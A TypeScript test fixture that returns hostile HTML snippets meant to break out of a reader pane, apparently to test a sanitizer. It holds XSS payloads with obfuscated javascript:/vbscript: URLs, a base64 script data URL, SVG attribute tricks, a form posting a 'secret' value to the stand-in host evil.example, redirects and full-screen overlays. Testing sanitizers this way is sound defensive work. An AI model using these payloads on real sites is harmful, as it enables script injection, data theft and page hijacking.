/**
 * Item HTML written to get out of the reader pane, grouped by finding. Every
 * address points at `evil.example` (or a loopback origin an e2e test passes
 * in), so a test can tell what survived.
 */
export function hostileHtml(evil = 'https://evil.example') {
  return {
    /** Every element that follows a link, in every spelling. */
    links: [
      `<A HREF="${evil}/upper">upper-case link</A>`,
      `<a href="${evil}/lower" target="_top">lower-case link aimed at the top frame</a>`,
      `<svg width="120" height="30"><a href="${evil}/svg"><text x="5" y="20">svg href link</text></a></svg>`,
      `<svg width="120" height="30"><A xlink:href="${evil}/xlink"><text x="5" y="20">svg xlink link</text></A></svg>`,
      `<SVG width="120" height="30"><A HREF="${evil}/svg-upper"><text x="5" y="20">SVG upper link</text></A></SVG>`,
      `<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==" width="40" height="40" usemap="#m" alt="map">` +
        `<map name="m"><area shape="rect" coords="0,0,40,40" href="${evil}/area" alt="area link"></map>`,
      `<map name="n"><AREA shape="rect" coords="0,0,9,9" HREF="${evil}/area-upper"></map>`,
      `<a href="${evil}/ping" ping="${evil}/pinged" download="x.html">ping and download</a>`,
      `<math><mtext><a href="${evil}/math">math link</a></mtext></math><math href="${evil}/math-href"><mi>x</mi></math>`,
    ],
    /** Script and data URLs, hidden behind entities, controls and case. */
    scriptUrls: [
      `<a href="javascript:alert(1)">plain</a>`,
      `<a href="&#106;&#97;vascript:alert(1)">entities</a>`,
      `<a href="java&#x09;script:alert(1)">tab entity</a>`,
      `<a href="  JaVa\nScRiPt:alert(1)">case and newline</a>`,
      `<a href="javascript&colon;alert(1)">named colon</a>`,
      `<a href="vbscript:msgbox(1)">vbscript</a>`,
      `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data page</a>`,
      `<svg><a xlink:href="javascript:alert(1)"><text y="20">svg script</text></a></svg>`,
      `<map name="j"><area shape="rect" coords="0,0,9,9" href=" &#x6A;avascript:alert(1)"></map>`,
      `<img src="x" srcset="javascript:alert(1) 1x">`,
      `<video poster="javascript:alert(1)" src="vbscript:x"></video>`,
      `<blockquote cite="&#x20;javascript:alert(1)">cite</blockquote><img lowsrc="vbscript:x" longdesc="data:text/html,x">`,
      `<table background="javascript:alert(1)"><tr><td>cell</td></tr></table><ins cite="JAVASCRIPT&#58;alert(1)">ins</ins>`,
      `<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">animated</text></a></svg>`,
      `<svg><a><set attributeName="href" to="${evil}/set"/><text y="20">set</text></a></svg>`,
    ],
    /** Things that navigate or submit without being a link. */
    navigators: [
      `<form action="${evil}/post" method="post"><input name="q" value="secret"><button>Send</button></form>`,
      `<button formaction="${evil}/formaction" form="f">formaction</button><input type="image" src="${evil}/input.png" formaction="${evil}/fa2">`,
      `<base href="${evil}/"><base target="_top">`,
      `<meta http-equiv="refresh" content="0;url=${evil}/refresh">`,
      `<iframe src="${evil}/frame"></iframe><iframe srcdoc="&lt;script&gt;top.location='${evil}'&lt;/script&gt;"></iframe>`,
      `<frameset><frame src="${evil}/frame2"></frameset><object data="${evil}/object"></object><embed src="${evil}/embed">`,
      `<portal src="${evil}/portal"></portal><fencedframe src="${evil}/fenced"></fencedframe>`,
    ],
    /** Things that leave the pane's box: the top layer, positioning, style sheets, focus. */
    escapes: [
      `<dialog open>an open dialog over the app</dialog>`,
      `<div popover="manual" id="pop">a popover</div><button popovertarget="pop" popovertargetaction="show">pop</button>`,
      `<div style="position:fixed;inset:0;z-index:2147483647;background:red">fixed cover</div>`,
      `<div style="position: STICKY; top:0; z-index:99999">sticky</div>`,
      `<p style="position:absolute;top:-400px;left:-600px;width:5000px;height:5000px;background:red">absolute</p>`,
      `<p style="margin:-9999px 0 0 -9999px;transform:scale(50)">negative margins</p>`,
      `<style>body{display:none} .status-bar{display:none}</style><link rel="stylesheet" href="${evil}/sheet.css">`,
      `<div class="status-bar" id="root">the app's own class and id</div>`,
      `<marquee behavior="alternate">marquee</marquee>`,
      `<p tabindex="0" autofocus>autofocus</p><details open><summary autofocus>sum</summary>d</details>`,
      `<svg width="10" height="10" style="position:fixed;top:0;left:0;width:100vw;height:100vh" overflow="visible"><rect x="-5000" y="-5000" width="20000" height="20000" fill="red"/></svg>`,
    ],
  };
}
